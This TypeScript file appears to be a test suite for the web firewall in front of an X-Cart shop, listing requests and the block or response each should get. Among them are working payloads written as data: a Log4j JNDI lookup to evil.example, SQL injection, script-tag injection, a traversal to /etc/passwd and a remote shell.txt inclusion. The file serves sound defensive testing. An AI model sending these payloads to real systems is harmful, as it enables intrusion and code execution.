import { type Attack, form, get } from "./row.ts";

const json = { "content-type": "application/json" };
const tool = { hints: ["bot-control=CategoryHttpLibrary"], headers: { "user-agent": "python-requests/2.32" } };
const password = '{"username":"owner@example.com","password":"x"}';

/** The API and its login, methods, headers that are forged, what other software does not expect. */
export const programs: readonly Attack[] = [
  form("a password at the API", "/api-login/check", password, "web ACL: block 403 by api", { headers: json }),
  form("a password at the API by PUT", "/api-login/check", password, "web ACL: block 403 by api", { headers: json, method: "PUT" }),
  form("a password at the API by PATCH", "/api-login/check", password, "web ACL: block 403 by api", { headers: json, method: "PATCH" }),
  form("a password at the API by DELETE", "/api-login/check", password, "web ACL: block 403 by api", { headers: json, method: "DELETE" }),
  form("a password at the API by GET", "/api-login/check", password, "web ACL: block 403 by api", { headers: json, method: "GET" }),
  form("a password at the API with another path", "/api-login/check/", password, "web ACL: block 403 by api", { headers: json }),
  form("a password at the API in capitals", "/API-LOGIN/check", password, "web ACL: block 403 by api", { headers: json }),
  form("a password at the API behind the front script", "/index.php/api-login/check", password, "web ACL: block 403 by scripts", {
    headers: json,
  }),
  get("the API's orders", "/api/orders", "web ACL: block 403 by api", tool),
  get("the API's orders by a browser", "/api/orders", "web ACL: block 403 by api"),
  get("the API's orders with two slashes", "//api/orders", "web ACL: block 403 by disguised"),
  get("the API's orders behind the front script", "/index.php/api/orders", "web ACL: block 403 by scripts"),
  get("the API's orders by its old script", "/cart.php/api/orders", "web ACL: block 403 by scripts"),
  get("the API's description", "/api/docs.json", "web ACL: block 403 by api"),
  get("the API's customers with a key", "/api/profiles", "web ACL: block 403 by api", { headers: { "x-auth-token": "guess" } }),
  get("a customer, to be deleted", "/api/profiles/1", "web ACL: block 403 by api", { method: "DELETE" }),
  form("a price, to be changed", "/api/products/1", '{"price":0}', "web ACL: block 403 by api", { method: "PUT", headers: json }),
  form("a language model's tool", "/mcp", "{}", "web ACL: block 403 by api", { headers: json }),
  get(
    "ShipStation's check of a password",
    "/?target=api&action=verifystatus&SS-UserName=owner%40example.com&SS-Password=x",
    "X-Cart: api/verifystatus in shop",
  ),
  get("CloudSearch's list of products", "/?target=cloud_search_api&action=products", "web ACL: block 403 by bot-control", tool),

  form("a login by PUT", "/", "target=login&action=login", "nginx: 405", { method: "PUT" }),
  form("an order by PATCH", "/", "target=checkout&action=checkout", "web ACL: challenge 202 by order-token", { method: "PATCH" }),
  get("an order by HEAD", "/?target=checkout&action=checkout", "web ACL: challenge 202 by order-token", { method: "HEAD" }),
  get("a login by HEAD", "/?target=login&action=login&login=a&password=b", "X-Cart: login/login in shop", { method: "HEAD" }),
  get("the administration by HEAD", "/admin/", "web ACL: block 403 by admin", { method: "HEAD" }),
  get("a page by DELETE", "/", "nginx: 405", { method: "DELETE" }),
  get("a page by OPTIONS", "/", "nginx: 405", { method: "OPTIONS" }),
  get("a page by TRACE", "/", "nginx: 405", { method: "TRACE" }),
  get("a page by PROPFIND", "/", "nginx: 405", { method: "PROPFIND" }),
  get("a file by POST", "/images/product/a.png", "nginx: 405", { method: "POST" }),
  get("a method in a header", "/", "X-Cart: page in shop", { headers: { "x-http-method-override": "DELETE" } }),
  form("a method in an argument", "/", "_method=DELETE&x=1", "PHP: 400"),
  form("a method in an argument, at the administration", "/admin/?target=product", "_method=DELETE&x=1", "web ACL: block 403 by admin"),

  get("a host of someone else's", "/?target=recover_password", "nginx: 421", {
    headers: { host: "evil.example", "x-requested-with": "XMLHttpRequest" },
  }),
  get("a host with a port", "/", "X-Cart: page in shop", { headers: { host: "shop.example.com:8443" } }),
  get("a protocol that is forged", "/", "X-Cart: page in shop", { headers: { "x-forwarded-proto": "http", "x-forwarded-port": "80" } }),
  get("a header that PHP's clients take for a proxy", "/", "X-Cart: page in shop", { headers: { proxy: "http://evil.example:8080" } }),
  get("no user agent", "/", "web ACL: block 403 by oversize", { headers: { "user-agent": "" }, hints: ["core=NoUserAgent_HEADER"] }),
  get("Log4j's hole in a header", "/", "web ACL: block 403 by known-bad-inputs", {
    headers: { "x-api-version": "\u0024{jndi:ldap://evil.example/a}" },
    hints: ["known-bad-inputs=Log4JRCE_HEADER"],
  }),
  get("SQL in an argument", "/?target=product&product_id=1%27%20UNION%20SELECT%201--", "web ACL: block 403 by sqli", {
    hints: ["sqli=SQLi_QUERYARGUMENTS"],
  }),
  get("a script in an argument", "/?substring=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "web ACL: block 403 by markup", {
    hints: ["core=CrossSiteScripting_QUERYARGUMENTS"],
  }),
  form("a script in a form", "/", "target=contact_us&action=send&message=%3Cscript%3E", "web ACL: block 403 by markup", {
    hints: ["core=CrossSiteScripting_BODY"],
  }),
  get("a file of the node in an argument", "/?target=product&file=..%2F..%2Fetc%2Fpasswd", "web ACL: block 403 by inclusion", {
    hints: ["core=GenericLFI_QUERYARGUMENTS"],
  }),
  get("a program of another site in an argument", "/?page=http%3A%2F%2F192.0.2.5%2Fshell.txt", "web ACL: block 403 by inclusion", {
    hints: ["core=GenericRFI_QUERYARGUMENTS"],
  }),
  get("a long query", `/?q=${"a".repeat(3000)}`, "web ACL: block 403 by oversize", { hints: ["core=SizeRestrictions_QUERYSTRING"] }),
  get("an address that AWS knows as bad", "/", "web ACL: block 403 by ip-reputation", {
    hints: ["ip-reputation=AWSManagedIPReputationList"],
  }),
  get("a crawler of a language model", "/", "web ACL: block 403 by bot-control", { hints: ["bot=ai"] }),
];
